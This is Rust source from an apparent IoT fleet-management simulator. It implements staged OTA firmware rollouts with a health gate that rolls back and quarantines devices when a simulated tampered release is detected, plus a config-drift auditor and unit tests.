    let h1 = splitmix64(h0);
    splitmix64(h1 ^ CAMPAIGN_SALT) % 100
}

/// The between-wave health gate.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct HealthGate {
    /// Halt when `|flagged ∩ updated| / |updated|` exceeds this.
    pub max_deviation_rate: f64,
}

impl Default for HealthGate {
    fn default() -> Self {
        HealthGate {
            max_deviation_rate: 0.25,
        }
    }
}

/// One staged firmware rollout.
#[derive(Debug, Clone, PartialEq)]
pub struct CampaignSpec {
    /// Campaign name (used in reports).
    pub name: String,
    /// Device (by template name) the release targets.
    pub device: String,
    /// Version of the staged release.
    pub version: Version,
    /// Release payload.
    pub payload: Vec<u8>,
    /// Cumulative rollout shares in percent, strictly increasing
    /// (e.g. `[10, 30, 60, 100]`).
    pub waves: Vec<u32>,
    /// Stream epoch the first wave launches in.
    pub start_epoch: u64,
    /// Epochs between wave launches (the gate observation window).
    pub epochs_per_wave: u64,
    /// Health gate between waves (`None` = ungated: waves launch on
    /// schedule no matter what the correlator says).
    pub gate: Option<HealthGate>,
    /// Supply-chain compromise: the OTA server serves an unsigned,
    /// implant-carrying variant of the release instead of the signed
    /// image — the Table II firmware-modulation attack staged through
    /// the campaign's own distribution path.
    pub tampered: bool,
}

impl CampaignSpec {
    /// A gated campaign with the default wave plan (10/30/60/100,
    /// starting at epoch 8, one wave every 3 epochs).
    pub fn new(name: &str, device: &str, version: Version, payload: Vec<u8>) -> Self {
        CampaignSpec {
            name: name.to_string(),
            device: device.to_string(),
            version,
            payload,
            waves: vec![10, 30, 60, 100],
            start_epoch: 8,
            epochs_per_wave: 3,
            gate: Some(HealthGate::default()),
            tampered: false,
        }
    }

    /// Replaces the wave plan (builder-style). Shares are cumulative
    /// percentages and must be strictly increasing, ending ≤ 100.
    pub fn with_waves(mut self, waves: Vec<u32>) -> Self {
        assert!(!waves.is_empty(), "campaign needs at least one wave");
        assert!(
            waves.windows(2).all(|w| w[0] < w[1]),
            "wave shares must be strictly increasing"
        );
        assert!(
            *waves.last().unwrap_or(&0) <= 100,
            "wave shares are percentages (≤ 100)"
        );
        self.waves = waves;
        self
    }

    /// Replaces the wave schedule (builder-style).
    pub fn with_schedule(mut self, start_epoch: u64, epochs_per_wave: u64) -> Self {
        assert!(epochs_per_wave > 0, "epochs_per_wave must be positive");
        self.start_epoch = start_epoch;
        self.epochs_per_wave = epochs_per_wave;
        self
    }

    /// Replaces the health gate (builder-style); `None` disables gating.
    pub fn with_gate(mut self, gate: Option<HealthGate>) -> Self {
        self.gate = gate;
        self
    }

    /// Marks the release supply-chain-compromised (builder-style); see
    /// [`CampaignSpec::tampered`].
    pub fn with_tampered(mut self) -> Self {
        self.tampered = true;
        self
    }
}

/// One home the campaign manages.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TargetHome {
    /// Fleet-wide home id.
    pub home: u64,
    /// Whether the target device runs the Table II vulnerable update
    /// path ([`UpdatePolicy::promiscuous`]) instead of the strict one —
    /// derived from the device's `UnsignedFirmware` vulnerability.
    pub promiscuous: bool,
}

/// Per-home campaign state: the device's firmware slot plus what the
/// campaign did to it.
#[derive(Debug, Clone)]
struct DeviceSlot {
    store: FirmwareStore,
    point: u64,
    /// The release was offered (a home is offered at most once; a
    /// device-layer rejection is final for the campaign).
    offered: bool,
    updated_epoch: Option<u64>,
    compromised: bool,
    rolled_back: bool,
    quarantined: bool,
}

/// One launched wave's outcome.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WaveReport {
    /// Wave index.
    pub wave: usize,
    /// Cumulative share this wave extended the rollout to (percent).
    pub share_pct: u32,
    /// Epoch the wave launched in.
    pub epoch: u64,
    /// Homes newly offered the release in this wave.
    pub cohort: u64,
    /// Offers the device layer applied.
    pub applied: u64,
    /// Offers the device layer rejected.
    pub rejected: u64,
}

/// The campaign's final accounting.
#[derive(Debug, Clone, PartialEq)]
pub struct CampaignReport {
    /// Campaign name.
    pub name: String,
    /// Target device.
    pub device: String,
    /// Staged release version.
    pub version: Version,
    /// Whether the release was supply-chain-compromised.
    pub tampered: bool,
    /// Whether a health gate was configured.
    pub gated: bool,
    /// Gate threshold (0 when ungated).
    pub max_deviation_rate: f64,
    /// Homes the campaign managed.
    pub targets: u64,
    /// Homes that applied the release.
    pub updated: u64,
    /// Offers rejected by device-layer verification.
    pub rejected: u64,
    /// Homes that ever ran the implanted payload.
    pub compromised: u64,
    /// Homes rolled back to the known-good image on halt.
    pub rolled_back: u64,
    /// Homes quarantined on halt.
    pub quarantined: u64,
    /// Cumulative share of the last launched wave (percent; 0 when no
    /// wave launched).
    pub rollout_pct: u32,
    /// Wave index the gate halted before (None = ran to completion).
    pub halted_at_wave: Option<usize>,
    /// Epoch the halt fired in.
    pub halt_epoch: Option<u64>,
    /// Updated-cohort deviation rate that tripped the gate.
    pub halt_rate: Option<f64>,
    /// A tampered campaign was halted with every compromised home
    /// rolled off the implant — detection became containment.
    pub contained: bool,
    /// Per-wave outcomes, in launch order.
    pub waves: Vec<WaveReport>,
}

/// Drives one campaign across the fleet, one stream epoch at a time.
#[derive(Debug, Clone)]
pub struct CampaignEngine {
    spec: CampaignSpec,
    factory: FirmwareImage,
    server: OtaServer,
    slots: BTreeMap<u64, DeviceSlot>,
    waves_run: Vec<WaveReport>,
    halted: Option<(usize, u64, f64)>,
    done: bool,
}

impl CampaignEngine {
    /// Builds the engine: a per-target firmware-store replica (factory
    /// image installed; policy from the target's vulnerability profile)
    /// and the vendor's OTA server with the release staged — compromised
    /// when the spec says so.
    pub fn new(
        spec: CampaignSpec,
        master_seed: u64,
        targets: &[TargetHome],
        vendor: &str,
        vendor_secret: &[u8],
    ) -> Self {
        let factory = FirmwareImage::signed(
            Version(1, 0, 0),
            vendor,
            b"factory firmware".to_vec(),
            vendor_secret,
        );
        let mut server = OtaServer::new(vendor, vendor_secret);
        server.publish(&spec.device, spec.version, spec.payload.clone());
        if spec.tampered {
            server.compromise(FirmwareTamperer::ota_implant());
        }
        let slots = targets
            .iter()
            .map(|t| {
                let policy = if t.promiscuous {
                    UpdatePolicy::promiscuous()
                } else {
                    UpdatePolicy::strict()
                };
                let slot = DeviceSlot {
                    store: FirmwareStore::new(factory.clone(), policy, vendor_secret),
                    point: cohort_point(master_seed, t.home),
                    offered: false,
                    updated_epoch: None,
                    compromised: false,
                    rolled_back: false,
                    quarantined: false,
                };
                (t.home, slot)
            })
            .collect();
        CampaignEngine {
            spec,
            factory,
            server,
            slots,
            waves_run: Vec::new(),
            halted: None,
            done: false,
        }
    }

    /// Campaign name.
    pub fn name(&self) -> &str {
        &self.spec.name
    }

    /// Whether `home` is currently running the implanted payload —
    /// i.e. it applied a compromised image and has been neither rolled
    /// back nor quarantined. This is what feeds the implant's behaviour
    /// into the home's traffic windows.
    pub fn implant_active(&self, home: u64) -> bool {
        self.slots
            .get(&home)
            .is_some_and(|s| s.compromised && !s.rolled_back && !s.quarantined)
    }

    /// Whether the gate has halted the rollout.
    pub fn halted(&self) -> bool {
        self.halted.is_some()
    }

    /// Advances the campaign to `epoch`. At wave boundaries the gate is
    /// evaluated first (over the homes updated in earlier waves, against
    /// the correlator's flagged set so far); if it holds, the next wave
    /// launches. One extra boundary after the last wave runs the final
    /// post-campaign gate check.
    pub fn epoch_begin(&mut self, epoch: u64, flagged: &BTreeSet<u64>, bus: &mut CommandBus) {
        if self.done || epoch < self.spec.start_epoch {
            return;
        }
        let since = epoch - self.spec.start_epoch;
        if !since.is_multiple_of(self.spec.epochs_per_wave) {
            return;
        }
        let wave = (since / self.spec.epochs_per_wave) as usize;
        if wave > self.spec.waves.len() {
            self.done = true;
            return;
        }
        if wave > 0 {
            if let Some(gate) = self.spec.gate {
                if let Some(rate) = self.updated_deviation_rate(flagged) {
                    if rate > gate.max_deviation_rate {
                        self.halt(wave, epoch, rate, bus);
                        return;
                    }
                }
            }
        }
        if wave == self.spec.waves.len() {
            // Final post-campaign gate check passed.
            self.done = true;
            return;
        }
        self.launch_wave(wave, epoch, bus);
    }

    /// `|flagged ∩ updated| / |updated|`; `None` before any update.
    fn updated_deviation_rate(&self, flagged: &BTreeSet<u64>) -> Option<f64> {
        let updated: Vec<u64> = self
            .slots
            .iter()
            .filter(|(_, s)| s.updated_epoch.is_some())
            .map(|(&h, _)| h)
            .collect();
        if updated.is_empty() {
            return None;
        }
        let deviant = updated.iter().filter(|h| flagged.contains(h)).count();
        Some(deviant as f64 / updated.len() as f64)
    }

    fn launch_wave(&mut self, wave: usize, epoch: u64, bus: &mut CommandBus) {
        let share = self.spec.waves[wave] as u64;
        let (mut cohort, mut applied, mut rejected) = (0u64, 0u64, 0u64);
        for (&home, slot) in self.slots.iter_mut() {
            if slot.point >= share || slot.offered {
                continue;
            }
            slot.offered = true;
            cohort += 1;
            let Some(image) = self.server.image_for(&self.spec.device) else {
                continue;
            };
            match slot.store.apply(image) {
                Ok(()) => {
                    applied += 1;
                    slot.updated_epoch = Some(epoch);
                    slot.compromised |= slot.store.payload_contains(IMPLANT_MARKER);
                    bus.record(
                        home,
                        &self.spec.device,
                        epoch,
                        CommandKind::FirmwareUpdate,
                        Disposition::Applied,
                    );
                }
                Err(e) => {
                    rejected += 1;
                    bus.record(
                        home,
                        &self.spec.device,
                        epoch,
                        CommandKind::FirmwareUpdate,
                        Disposition::Rejected(e.to_string()),
                    );
                }
            }
        }
        self.waves_run.push(WaveReport {
            wave,
            share_pct: self.spec.waves[wave],
            epoch,
            cohort,
            applied,
            rejected,
        });
    }

    /// Containment: every updated home is rolled back to the factory
    /// image (rollback bypasses the downgrade check but still enforces
    /// the signature policy) and quarantined pending investigation.
    fn halt(&mut self, wave: usize, epoch: u64, rate: f64, bus: &mut CommandBus) {
        self.halted = Some((wave, epoch, rate));
        self.done = true;
        for (&home, slot) in self.slots.iter_mut() {
            if slot.updated_epoch.is_none() {
                continue;
            }
            match slot.store.apply_rollback(self.factory.clone()) {
                Ok(()) => {
                    slot.rolled_back = true;
                    bus.record(
                        home,
                        &self.spec.device,
                        epoch,
                        CommandKind::FirmwareRollback,
                        Disposition::Applied,
                    );
                }
                Err(e) => {
                    bus.record(
                        home,
                        &self.spec.device,
                        epoch,
                        CommandKind::FirmwareRollback,
                        Disposition::Rejected(e.to_string()),
                    );
                }
            }
            slot.quarantined = true;
            bus.record(
                home,
                &self.spec.device,
                epoch,
                CommandKind::Quarantine,
                Disposition::Issued,
            );
        }
    }

    /// Serializes the engine's *mutable* state into a run-level snapshot
    /// section: per-slot rollout flags + installed firmware, the wave
    /// log, the halt record, and the done flag. The spec, OTA server,
    /// and factory image are pure functions of the campaign inputs and
    /// are rebuilt by the caller (via [`CampaignEngine::new`]) before
    /// [`CampaignEngine::restore_state`] overlays this state.
    pub fn checkpoint_into(&self, w: &mut Writer) {
        w.usize(self.slots.len());
        for (&home, slot) in &self.slots {
            w.u64(home);
            w.u8(u8::from(slot.offered));
            match slot.updated_epoch {
                Some(e) => {
                    w.u8(1);
                    w.u64(e);
                }
                None => w.u8(0),
            }
            w.u8(u8::from(slot.compromised));
            w.u8(u8::from(slot.rolled_back));
            w.u8(u8::from(slot.quarantined));
            let image = slot.store.installed().to_bytes();
            w.usize(image.len());
            w.bytes(&image);
            w.usize(slot.store.history.len());
            for v in &slot.store.history {
                write_version(w, *v);
            }
        }
        w.usize(self.waves_run.len());
        for wave in &self.waves_run {
            w.usize(wave.wave);
            w.u32(wave.share_pct);
            w.u64(wave.epoch);
            w.u64(wave.cohort);
            w.u64(wave.applied);
            w.u64(wave.rejected);
        }
        match self.halted {
            Some((wave, epoch, rate)) => {
                w.u8(1);
                w.usize(wave);
                w.u64(epoch);
                w.f64(rate);
            }
            None => w.u8(0),
        }
        w.u8(u8::from(self.done));
    }

    /// Restores state serialized with [`CampaignEngine::checkpoint_into`]
    /// onto a freshly built engine (same spec, seed, and targets).
    ///
    /// # Errors
    ///
    /// [`CheckpointError`] on any framing violation or malformed content
    /// (unknown home id, malformed firmware image, invalid tag byte).
    pub fn restore_state(&mut self, r: &mut Reader) -> Result<(), CheckpointError> {
        let n = r.usize()?;
        if n != self.slots.len() {
            return Err(CheckpointError::Truncated);
        }
        for _ in 0..n {
            let home = r.u64()?;
            let slot = self
                .slots
                .get_mut(&home)
                .ok_or(CheckpointError::Truncated)?;
            slot.offered = read_bool(r)?;
            slot.updated_epoch = match r.u8()? {
                0 => None,
                1 => Some(r.u64()?),
                _ => return Err(CheckpointError::Truncated),
            };
            slot.compromised = read_bool(r)?;
            slot.rolled_back = read_bool(r)?;
            slot.quarantined = read_bool(r)?;
            let ilen = r.usize()?;
            let image = FirmwareImage::from_bytes(r.bytes(ilen)?)
                .map_err(|_| CheckpointError::Truncated)?;
            let hlen = r.usize()?;
            let mut history = Vec::new();
            for _ in 0..hlen {
                history.push(read_version(r)?);
            }
            slot.store.restore_state(image, history);
        }
        let waves = r.usize()?;
        self.waves_run.clear();
        for _ in 0..waves {
            self.waves_run.push(WaveReport {
                wave: r.usize()?,
                share_pct: r.u32()?,
                epoch: r.u64()?,
                cohort: r.u64()?,
                applied: r.u64()?,
                rejected: r.u64()?,
            });
        }
        self.halted = match r.u8()? {
            0 => None,
            1 => Some((r.usize()?, r.u64()?, r.f64()?)),
            _ => return Err(CheckpointError::Truncated),
        };
        self.done = read_bool(r)?;
        Ok(())
    }

    /// The campaign's final accounting.
    pub fn report(&self) -> CampaignReport {
        let updated = self
            .slots
            .values()
            .filter(|s| s.updated_epoch.is_some())
            .count() as u64;
        let compromised = self.slots.values().filter(|s| s.compromised).count() as u64;
        let rolled_back = self.slots.values().filter(|s| s.rolled_back).count() as u64;
        let quarantined = self.slots.values().filter(|s| s.quarantined).count() as u64;
        let rejected = self.waves_run.iter().map(|w| w.rejected).sum();
        let implant_free = self
            .slots
            .values()
            .all(|s| !s.store.payload_contains(IMPLANT_MARKER));
        CampaignReport {
            name: self.spec.name.clone(),
            device: self.spec.device.clone(),
            version: self.spec.version,
            tampered: self.spec.tampered,
            gated: self.spec.gate.is_some(),
            max_deviation_rate: self.spec.gate.map_or(0.0, |g| g.max_deviation_rate),
            targets: self.slots.len() as u64,
            updated,
            rejected,
            compromised,
            rolled_back,
            quarantined,
            rollout_pct: self.waves_run.last().map_or(0, |w| w.share_pct),
            halted_at_wave: self.halted.map(|(w, _, _)| w),
            halt_epoch: self.halted.map(|(_, e, _)| e),
            halt_rate: self.halted.map(|(_, _, r)| r),
            contained: self.spec.tampered && self.halted.is_some() && implant_free,
            waves: self.waves_run.clone(),
        }
    }
}

fn write_version(w: &mut Writer, v: Version) {
    w.u32(u32::from(v.0));
    w.u32(u32::from(v.1));
    w.u32(u32::from(v.2));
}

fn read_version(r: &mut Reader) -> Result<Version, CheckpointError> {
    let v0 = u16::try_from(r.u32()?).map_err(|_| CheckpointError::Truncated)?;
    let v1 = u16::try_from(r.u32()?).map_err(|_| CheckpointError::Truncated)?;
    let v2 = u16::try_from(r.u32()?).map_err(|_| CheckpointError::Truncated)?;
    Ok(Version(v0, v1, v2))
}

fn read_bool(r: &mut Reader) -> Result<bool, CheckpointError> {
    match r.u8()? {
        0 => Ok(false),
        1 => Ok(true),
        _ => Err(CheckpointError::Truncated),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const VENDOR: &str = "acme";
    const SECRET: &[u8] = b"acme vendor secret";

    fn targets(n: u64, promiscuous: bool) -> Vec<TargetHome> {
        (0..n)
            .map(|home| TargetHome { home, promiscuous })
            .collect()
    }

    fn spec() -> CampaignSpec {
        CampaignSpec::new(
            "cam-2.0",
            "cam",
            Version(2, 0, 0),
            b"cam firmware v2".to_vec(),
        )
        .with_schedule(2, 2)
        .with_waves(vec![10, 40, 100])
    }

    /// Drives the engine through every epoch in `0..epochs`, feeding it
    /// a constant flagged set.
    fn drive(engine: &mut CampaignEngine, epochs: u64, flagged: &BTreeSet<u64>) -> CommandBus {
        let mut bus = CommandBus::new();
        for epoch in 0..epochs {
            engine.epoch_begin(epoch, flagged, &mut bus);
        }
        bus
    }

    #[test]
    fn cohort_points_are_deterministic_and_spread() {
        let a: Vec<u64> = (0..200).map(|h| cohort_point(42, h)).collect();
        let b: Vec<u64> = (0..200).map(|h| cohort_point(42, h)).collect();
        assert_eq!(a, b);
        assert!(a.iter().all(|&p| p < 100));
        // A different master seed re-points the cohort.
        let c: Vec<u64> = (0..200).map(|h| cohort_point(43, h)).collect();
        assert_ne!(a, c);
        // Rough uniformity: at least a fifth of homes land under 30.
        let under_30 = a.iter().filter(|&&p| p < 30).count();
        assert!((40..=120).contains(&under_30), "under_30: {under_30}");
    }

    #[test]
    fn clean_campaign_rolls_out_in_nested_waves_to_full_share() {
        let mut engine = CampaignEngine::new(spec(), 7, &targets(100, false), VENDOR, SECRET);
        let bus = drive(&mut engine, 12, &BTreeSet::new());
        let report = engine.report();
        assert_eq!(report.rollout_pct, 100);
        assert_eq!(report.halted_at_wave, None);
        assert_eq!(report.updated, 100, "signed release applies everywhere");
        assert_eq!(report.rejected, 0);
        assert_eq!(report.compromised, 0);
        assert!(!report.contained, "nothing to contain");
        assert_eq!(report.waves.len(), 3);
        // Waves are nested and cover everyone exactly once.
        let offered: u64 = report.waves.iter().map(|w| w.cohort).sum();
        assert_eq!(offered, 100);
        assert!(report.waves.windows(2).all(|w| w[0].epoch < w[1].epoch));
        assert_eq!(bus.applied(CommandKind::FirmwareUpdate), 100);
    }

    #[test]
    fn tampered_campaign_compromises_promiscuous_homes_and_gate_contains_it() {
        let mut engine = CampaignEngine::new(
            spec().with_tampered(),
            7,
            &targets(100, true),
            VENDOR,
            SECRET,
        );
        let mut bus = CommandBus::new();
        // Wave 0 at epoch 2: implant lands on the first cohort.
        for epoch in 0..3 {
            engine.epoch_begin(epoch, &BTreeSet::new(), &mut bus);
        }
        let wave0 = engine.report().waves[0].clone();
        assert!(wave0.applied > 0, "promiscuous homes accept the implant");
        assert_eq!(engine.report().compromised, wave0.applied);
        let infected: BTreeSet<u64> = (0..100).filter(|&h| engine.implant_active(h)).collect();
        assert_eq!(infected.len() as u64, wave0.applied);

        // The correlator flags every infected home before the next
        // boundary (epoch 4): the gate halts, rolls back, quarantines.
        engine.epoch_begin(4, &infected, &mut bus);
        let report = engine.report();
        assert_eq!(report.halted_at_wave, Some(1));
        assert_eq!(report.halt_epoch, Some(4));
        assert!(report.halt_rate.unwrap() > 0.99);
        assert_eq!(report.rollout_pct, 10, "never got past wave 0");
        assert_eq!(report.rolled_back, report.updated);
        assert_eq!(report.quarantined, report.updated);
        assert!(report.contained, "implant rolled off every home");
        assert!((0..100).all(|h| !engine.implant_active(h)));
        assert_eq!(bus.applied(CommandKind::FirmwareRollback), report.updated);
        assert_eq!(bus.issued(CommandKind::Quarantine), report.updated);
        // Later epochs are no-ops once halted.
        engine.epoch_begin(6, &infected, &mut bus);
        assert_eq!(engine.report().rollout_pct, 10);
    }

    #[test]
    fn strict_devices_reject_the_tampered_release() {
        let mut engine = CampaignEngine::new(
            spec().with_tampered(),
            7,
            &targets(50, false),
            VENDOR,
            SECRET,
        );
        let bus = drive(&mut engine, 12, &BTreeSet::new());
        let report = engine.report();
        assert_eq!(report.updated, 0, "strict policy refuses unsigned images");
        assert_eq!(report.compromised, 0);
        assert_eq!(report.rejected, 50);
        assert_eq!(bus.rejected(CommandKind::FirmwareUpdate), 50);
        // Nothing updated → the gate has nothing to halt.
        assert_eq!(report.halted_at_wave, None);
    }

    #[test]
    fn ungated_tampered_campaign_spreads_to_the_full_fleet() {
        let mut engine = CampaignEngine::new(
            spec().with_tampered().with_gate(None),
            7,
            &targets(100, true),
            VENDOR,
            SECRET,
        );
        // Even with every infected home flagged, no gate → no halt.
        let all: BTreeSet<u64> = (0..100).collect();
        drive(&mut engine, 12, &all);
        let report = engine.report();
        assert_eq!(report.rollout_pct, 100);
        assert_eq!(report.compromised, 100);
        assert_eq!(report.rolled_back, 0);
        assert!(!report.contained);
    }

    #[test]
    fn gate_tolerates_background_deviation_below_threshold() {
        // 100 promiscuous homes, clean release, but 3 homes flagged for
        // unrelated reasons: 3% < 25% gate → rollout completes.
        let mut engine = CampaignEngine::new(spec(), 7, &targets(100, true), VENDOR, SECRET);
        let background: BTreeSet<u64> = [3, 57, 91].into_iter().collect();
        drive(&mut engine, 12, &background);
        let report = engine.report();
        assert_eq!(report.rollout_pct, 100);
        assert_eq!(report.halted_at_wave, None);
    }

    #[test]
    #[should_panic(expected = "strictly increasing")]
    fn non_increasing_waves_are_rejected() {
        let _ = spec().with_waves(vec![10, 10, 100]);
    }

    #[test]
    fn checkpoint_mid_campaign_resumes_byte_identically() {
        let mk = || {
            CampaignEngine::new(
                spec().with_tampered(),
                7,
                &targets(64, true),
                VENDOR,
                SECRET,
            )
        };
        let infected: BTreeSet<u64> = (0..64).collect();

        // Straight-through golden.
        let mut golden = mk();
        let mut bus_golden = CommandBus::new();
        for epoch in 0..12 {
            golden.epoch_begin(epoch, &infected, &mut bus_golden);
        }

        // Interrupted twin: checkpoint after epoch 3 (mid-campaign,
        // between wave boundaries) and resume on a fresh engine.
        let mut first = mk();
        let mut bus = CommandBus::new();
        for epoch in 0..4 {
            first.epoch_begin(epoch, &infected, &mut bus);
        }
        let mut w = Writer::new();
        first.checkpoint_into(&mut w);
        bus.checkpoint_into(&mut w);
        let bytes = w.into_bytes();

        let mut resumed = mk();
        let mut r = Reader::new(&bytes);
        resumed.restore_state(&mut r).unwrap();
        let mut bus_resumed = CommandBus::restore_from(&mut r).unwrap();
        r.finish().unwrap();
        for epoch in 4..12 {
            resumed.epoch_begin(epoch, &infected, &mut bus_resumed);
        }
        assert_eq!(resumed.report(), golden.report());
        assert_eq!(bus_resumed, bus_golden);

        // And the restored engine re-serializes to the same bytes the
        // original produced at the checkpoint.
        let mut twin = mk();
        let mut r = Reader::new(&bytes);
        twin.restore_state(&mut r).unwrap();
        let _ = CommandBus::restore_from(&mut r).unwrap();
        let mut w2 = Writer::new();
        twin.checkpoint_into(&mut w2);
        let mut w1 = Writer::new();
        first.checkpoint_into(&mut w1);
        assert_eq!(w1.into_bytes(), w2.into_bytes());
    }

    #[test]
    fn campaign_restore_rejects_malformed_state() {
        let mut engine = CampaignEngine::new(spec(), 7, &targets(8, false), VENDOR, SECRET);
        let mut w = Writer::new();
        engine.checkpoint_into(&mut w);
        let bytes = w.into_bytes();
        // Every truncation point is a structured error, never a panic.
        for cut in 0..bytes.len() {
            let mut r = Reader::new(&bytes[..cut]);
            let res = engine.restore_state(&mut r);
            assert!(
                res.is_err() || {
                    // A prefix can decode cleanly only if the remainder
                    // check catches it.
                    r.finish().is_err()
                },
                "truncation at {cut} went unnoticed"
            );
        }
    }
}
