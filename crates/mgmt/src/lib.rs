//! # xlf-mgmt — the fleet device-management control plane
//!
//! The rest of the workspace *detects*: per-home Cores fuse evidence,
//! the fleet tier correlates across homes, and the stream correlator
//! fires epoch-stamped alerts mid-run. This crate *acts*. It closes the
//! detection→response loop the paper's §III-C OTA analysis calls for
//! ("a robust OTA update mechanism is a core part of a system's
//! architecture") with three pieces:
//!
//! 1. [`CommandBus`](command::CommandBus) — a deterministic, append-only
//!    log of every command the control plane issued to a device
//!    (firmware update / rollback / quarantine / config remediation)
//!    with its disposition. No wall clock, no randomness: replaying the
//!    same fleet produces the same log.
//! 2. [`CampaignEngine`](campaign::CampaignEngine) — staged
//!    percentage-wave OTA rollout over a fleet. Wave cohorts are chosen
//!    by the same SplitMix64 layout-invariant stamping the fleet uses
//!    for faults, so cohorts are byte-reproducible across worker counts
//!    and nested (every wave is a superset of the previous one). Each
//!    device verifies the vendor signature at the device layer before
//!    [`FirmwareStore::apply`](xlf_device::firmware::FirmwareStore);
//!    a **health gate** between waves consumes the stream correlator's
//!    flagged-home set — if the updated cohort's deviation rate exceeds
//!    the gate, the rollout halts and the engine issues rollback +
//!    quarantine commands. This turns the Table II firmware-modulation
//!    attack from a detection scenario into a containment scenario.
//! 3. [`ConfigAuditor`](drift::ConfigAuditor) — a periodic config-hash
//!    audit: homes whose observed config fingerprint drifts from the
//!    golden fingerprint get a remediate command that resets them.
//!
//! The engines are driven from the fleet aggregator's stream pass (one
//! `epoch_begin` per correlation epoch), but depend only on the
//! device/cloud primitives — the fleet crate layers them in.

#![cfg_attr(not(test), deny(clippy::unwrap_used, clippy::expect_used))]

pub mod campaign;
pub mod command;
pub mod drift;

pub use campaign::{
    cohort_point, CampaignEngine, CampaignReport, CampaignSpec, HealthGate, TargetHome, WaveReport,
};
pub use command::{CommandBus, CommandKind, CommandRecord, Disposition, COMMAND_KINDS};
pub use drift::{ConfigAuditReport, ConfigAuditSpec, ConfigAuditor};
