//! Config-drift detection and remediation: the control plane's second
//! command type.
//!
//! Every managed home has a golden configuration fingerprint (a pure
//! hash of `(master_seed, home)` — the stand-in for hashing the home's
//! rendered config files, as thin-edge.io's config plugin does). A
//! deterministic drift cohort mutates its observed fingerprint at a
//! configured epoch; the auditor re-hashes every home on a fixed
//! cadence, and any mismatch produces a `config-remediate` command that
//! resets the observed fingerprint to the golden one.

use crate::command::{CommandBus, CommandKind, Disposition};
use std::collections::BTreeMap;
use xlf_stream::{CheckpointError, Reader, Writer};

/// SplitMix64 (same mixer as the campaign cohort hash).
fn splitmix64(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Salt for the drift-cohort hash word (independent of the campaign
/// salt so drift and rollout cohorts don't correlate).
const DRIFT_SALT: u64 = 0xD21F_C0DE_0000_0003;

/// Salt for the golden config fingerprint.
const CONFIG_SALT: u64 = 0xC0F1_6000_0000_0009;

/// The golden config fingerprint of one home.
pub fn golden_config_hash(master_seed: u64, home: u64) -> u64 {
    splitmix64(splitmix64(master_seed ^ splitmix64(home)) ^ CONFIG_SALT)
}

/// Which homes drift, and when the auditor looks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ConfigAuditSpec {
    /// Audit every this many epochs (cadence; audits run at epochs
    /// `every`, `2·every`, …).
    pub every: u64,
    /// Share of homes (percent) whose config drifts.
    pub drift_pct: u32,
    /// Epoch the drift cohort's configs mutate in.
    pub drift_epoch: u64,
}

impl ConfigAuditSpec {
    /// An audit every `every` epochs over a 10%-drift-at-epoch-10 fleet.
    pub fn new(every: u64) -> Self {
        assert!(every > 0, "audit cadence must be positive");
        ConfigAuditSpec {
            every,
            drift_pct: 10,
            drift_epoch: 10,
        }
    }

    /// Replaces the drift cohort share and onset epoch (builder-style).
    pub fn with_drift(mut self, drift_pct: u32, drift_epoch: u64) -> Self {
        assert!(drift_pct <= 100, "drift share is a percentage");
        self.drift_pct = drift_pct;
        self.drift_epoch = drift_epoch;
        self
    }
}

/// The audit's final accounting.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ConfigAuditReport {
    /// Audit cadence (epochs).
    pub every: u64,
    /// Audit passes run.
    pub audits: u64,
    /// Homes whose config drifted.
    pub drifted: u64,
    /// Drifts the auditor detected (hash mismatches observed).
    pub detected: u64,
    /// Homes remediated back to the golden fingerprint.
    pub remediated: u64,
}

/// Runs the periodic config-hash audit over the managed homes.
#[derive(Debug, Clone)]
pub struct ConfigAuditor {
    spec: ConfigAuditSpec,
    /// home → (golden hash, observed hash).
    configs: BTreeMap<u64, (u64, u64)>,
    /// Homes stamped into the drift cohort (may not have drifted yet).
    drift_cohort: u64,
    audits: u64,
    detected: u64,
    remediated: u64,
}

impl ConfigAuditor {
    /// Builds the auditor over `homes` (the managed fleet). The drift
    /// cohort is stamped with the same layout-invariant hashing as
    /// campaign waves, under its own salt.
    pub fn new(spec: ConfigAuditSpec, master_seed: u64, homes: &[u64]) -> Self {
        let mut configs = BTreeMap::new();
        let mut drift_cohort = 0u64;
        for &home in homes {
            let golden = golden_config_hash(master_seed, home);
            let h0 = splitmix64(master_seed ^ splitmix64(home));
            let h1 = splitmix64(h0);
            let point = splitmix64(h1 ^ DRIFT_SALT) % 100;
            if point < spec.drift_pct as u64 {
                drift_cohort += 1;
                // Mark for mutation at drift_epoch by remembering the
                // drifted value the observed hash will flip to.
                configs.insert(home, (golden, golden ^ splitmix64(golden)));
            } else {
                configs.insert(home, (golden, golden));
            }
        }
        ConfigAuditor {
            spec,
            configs,
            drift_cohort,
            audits: 0,
            detected: 0,
            remediated: 0,
        }
    }

    /// Advances the audit to `epoch`: on cadence epochs, re-hash every
    /// home and remediate mismatches. Drift only *manifests* from
    /// `drift_epoch` on — before that, drifted homes still observe their
    /// golden hash.
    pub fn epoch_begin(&mut self, epoch: u64, bus: &mut CommandBus) {
        if epoch == 0 || !epoch.is_multiple_of(self.spec.every) {
            return;
        }
        self.audits += 1;
        if epoch < self.spec.drift_epoch {
            return;
        }
        for (&home, (golden, observed)) in self.configs.iter_mut() {
            if observed == golden {
                continue;
            }
            self.detected += 1;
            *observed = *golden;
            self.remediated += 1;
            bus.record(
                home,
                "config",
                epoch,
                CommandKind::ConfigRemediate,
                Disposition::Applied,
            );
        }
    }

    /// Serializes the auditor's *mutable* state (tallies + per-home
    /// observed fingerprints) into a run-level snapshot section. The
    /// golden fingerprints and drift cohort are pure functions of the
    /// seed and are rebuilt by the caller (via [`ConfigAuditor::new`])
    /// before [`ConfigAuditor::restore_state`] overlays this state.
    pub fn checkpoint_into(&self, w: &mut Writer) {
        w.u64(self.audits);
        w.u64(self.detected);
        w.u64(self.remediated);
        w.usize(self.configs.len());
        for (&home, &(_, observed)) in &self.configs {
            w.u64(home);
            w.u64(observed);
        }
    }

    /// Restores state serialized with [`ConfigAuditor::checkpoint_into`]
